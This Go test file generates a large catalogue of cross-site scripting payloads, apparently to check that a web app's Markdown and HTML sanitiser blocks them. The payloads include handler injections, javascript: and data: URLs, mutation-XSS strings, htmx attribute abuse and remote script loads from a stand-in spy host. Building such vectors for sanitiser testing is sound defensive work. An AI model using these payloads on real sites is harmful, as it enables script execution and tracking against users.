package e2e

import (
	"fmt"
	"strings"
)

// spy is where a vector would load something from; nobody is there.
const spy = "spy.example.net"

// xssVectors are ways to have a browser run a script or load something from elsewhere, made of families: elements with a handler each, addresses in each place that takes
// one, broken syntax around both, what Markdown makes of it, what htmx takes for its own, and what escapes from the places where texts are shown. Each that works says so in window.pwned.
func xssVectors() (all []string) {
	n := 0
	add := func(format string) {
		n++
		js := fmt.Sprintf("window.pwned=%d", n)
		all = append(all, strings.NewReplacer("JS", js, "SPY", "https://"+spy+"/"+fmt.Sprint(n), "HOST", spy).Replace(format))
	}
	for _, e := range strings.Fields(`img/onerror/src=x audio/onerror/src=x video/onerror/src=x source/onerror/src=x svg/onload body/onload input/onfocus/autofocus select/onfocus/autofocus textarea/onfocus/autofocus
		button/onfocus/autofocus details/ontoggle/open marquee/onstart object/onerror/data=x embed/onload/src=x iframe/onload/src=x link/onerror/rel=stylesheet,href=x style/onload video/onloadstart/src=x a/onfocus/href=#,autofocus
		div/onanimationstart/style=animation-name:x div/onpointerenter x/onclick/tabindex=1 p/onmouseover math/onfocus/tabindex=1,autofocus dialog/onclose/open form/onsubmit meter/onmouseover xss/oncontentvisibilityautostatechange/style=content-visibility:auto
		img/onload/src=data:image/gif;base64,R0lGODlhAQABAAAAACw= summary/onbeforetoggle video/oncanplay table/onscroll`) {
		parts := append(strings.Split(e, "/"), "", "")
		attributes := strings.ReplaceAll(parts[2], ",", " ")
		if strings.HasPrefix(e, "img/onload") {
			attributes = strings.SplitN(e, "/", 3)[2]
		}
		add("<" + parts[0] + " " + attributes + " " + parts[1] + `="JS">`)
		add("<" + strings.ToUpper(parts[0]) + "/" + parts[1] + "=JS " + attributes + ">")
	}
	for _, place := range strings.Split(`<a href="U">x</a>|<iframe src="U"></iframe>|<embed src="U">|<object data="U"></object>|<form action="U"><button>x</button></form>|<form><button formaction="U">x</button></form>|<svg><a xlink:href="U"><text y="9">x</text></a></svg>|<math><mi xlink:href="U">x</mi></math>|<base href="U">|<meta http-equiv="refresh" content="0;url=U">|<img src="U">|<img srcset="U 1x">|<video poster="U" src="U"></video>|<table background="U"><td background="U">x</table>|<link rel="stylesheet" href="U">|<link rel="prefetch" href="U">|<script src="U"></script>|<svg><use href="U#x"/></svg>|<svg><image href="U"/></svg>|<body background="U">|<div style="background:url(U)">x</div>|<style>@import "U";*{background:url(U)}</style>|<input type="image" src="U">|<picture><source srcset="U"><img></picture>|<a href="#" ping="U">x</a>|<frameset><frame src="U"></frameset>`, "|") {
		add(strings.ReplaceAll(place, "U", "javascript:JS"))
		add(strings.ReplaceAll(place, "U", "SPY"))
	}
	for _, u := range []string{"JaVaScRiPt:JS", " javascript:JS", "java\tscript:JS", "java&#10;script:JS", "&#106;avascript:JS", "&#x6A;&#x61;vascript&colon;JS", "javascript&colon;JS", "javascript%3AJS", "\x01javascript:JS", "javascript\x00:JS",
		"data:text/html,<script>parent.JS</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==", "vbscript:JS", "javascript://%0aJS", "jav\u00adascript:JS", "view-source:javascript:JS", "blob:javascript:JS", "file:///etc/passwd", "//HOST/x\" onclick=\"JS"} {
		add("[press](" + u + ")")
		add("![see](" + u + ")")
		add(`<a href="` + u + `">press</a>`)
	}
	for _, v := range []string{
		"<javascript:JS>", "[a]: javascript:JS\n\n[a]", "[a]: <javascript:JS> \"t\"\n\n![a][a]", `[x](https://HOST/ "title\" onmouseover=\"JS")`, `![a" onerror="JS](x)`, `![a](x" onerror="JS)`, "![spy](SPY/pixel.png)", "[![spy](SPY/p.png)](SPY)",
		"```\"><img src=x onerror=JS>\ncode\n```", "```html\n</code></pre><script>JS</script>\n```", "``<script>JS</script>``", "    <script>JS</script>", "# <img src=x onerror=JS>", "# x {#a onclick=JS}", "| <script>JS</script> | [x](javascript:JS) |\n|---|---|\n| <img src=x onerror=JS> | y |",
		"[^1]\n\n[^1]: <img src=x onerror=JS>", "[^\"><img src=x onerror=JS>]\n\n[^\"><img src=x onerror=JS>]: x", "- [ ] <img src=x onerror=JS>", "$\\href{javascript:JS}{x}$", "$$\\htmlData{x=\"onclick=JS}{x} \\includegraphics{SPY/x.png}$$", "$<img src=x onerror=JS>$", "$\\unicode{<img src=x onerror=JS>}$", "~~<svg onload=JS>~~", "> <img src=x onerror=JS>",
		"https://HOST/\"onmouseover=\"JS", "<https://HOST/\" onmouseover=\"JS>", "&lt;script&gt;JS&lt;/script&gt;", "&#60;img src=x onerror=JS&#62;", "%3Cscript%3EJS%3C/script%3E", "+ADw-script+AD4-JS+ADw-/script+AD4-", "＜script＞JS＜/script＞", "\\<script\\>JS\\</script\\>",
		"<script>JS</script>", "<SCRIPT SRC=//HOST/x.js></SCRIPT>", "<script\n>JS</script\n>", "<<script>JS//<</script>", "<scr<script>ipt>JS</scr</script>ipt>", "<script/x>JS</script>", "<\x00script>JS</script>", "<script>JS", "<img src=x onerror=JS//", "<img src=`x` onerror=`JS`>", "<img/src/onerror=JS>", "<img \x0csrc=x\x0conerror=JS>", "<img src='x'onerror='JS'>", "<img src=x onerror\n=\nJS>",
		"<!--><img src=x onerror=JS>-->", "<!-- --!><img src=x onerror=JS>", "<![CDATA[><img src=x onerror=JS>]]>", "<?x ><img src=x onerror=JS>?>", "<!x ><img src=x onerror=JS>", "</title><img src=x onerror=JS>", "</textarea><img src=x onerror=JS>", "</script><img src=x onerror=JS>", "</style><img src=x onerror=JS>", "</noscript><img src=x onerror=JS>", "</template><img src=x onerror=JS>",
		"\"><img src=x onerror=JS>", "'><img src=x onerror=JS>", "\" onmouseover=\"JS\" x=\"", "' autofocus onfocus='JS", "`><img src=x onerror=JS>", "{{constructor.constructor('JS')()}}", "${JS}", "<%= JS %>", "#{JS}", "');JS;//", "\";JS;//", "\\\";JS;//", "</a><a href=javascript:JS>", "--><script>JS</script>",
		"<noscript><p title=\"</noscript><img src=x onerror=JS>\">", "<svg><style><img src=x onerror=JS></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=JS&gt;\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=JS src>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">", "<math><annotation-xml encoding=\"text/html\"><script>JS</script></annotation-xml></math>", "<select><style></select><img src=x onerror=JS></style>", "<xmp><p title=\"</xmp><img src=x onerror=JS>\">",
		"<svg><script>JS</script></svg>", "<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set attributeName=onload to=JS>", "<svg><a><animate attributeName=href values=javascript:JS /><text y=9>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>parent.JS</script>\"></foreignObject></svg>", "<iframe srcdoc=\"<script>parent.JS</script>\">", "<template shadowrootmode=open><img src=x onerror=JS></template>", "<portal src=SPY>", "<object type=text/html data=SPY></object>",
		"<div hx-get=\"SPY\" hx-trigger=\"load\">x</div>", "<div hx-on:click=\"JS\" hx-on::load=\"JS\" hx-trigger=load>x</div>", "<div hx-get=/chat hx-trigger=load hx-vals='js:{a:JS}'>x</div>", "<hx-partial hx-target=#messages hx-swap=innerHTML><script>JS</script></hx-partial>", "<div hx-swap-oob=\"true\" id=\"messages\">gone</div>", "<div data-hx-on:load=\"JS\" data-hx-get=/chat data-hx-trigger=load>x</div>", "<div sse-connect=\"SPY\" hx-ext=sse>x</div>", "<form hx-post=/vault/lock hx-trigger=load></form>",
		"<a id=composer name=text href=#>x</a>", "<form id=composer name=composer><input name=action></form>", "<img name=getElementById>", "<input name=csrf-token content=x>", "<div id=stream class=stream>x</div>", "<dialog open class=palette>x</dialog>",
	} {
		add(v)
	}
	return all
}
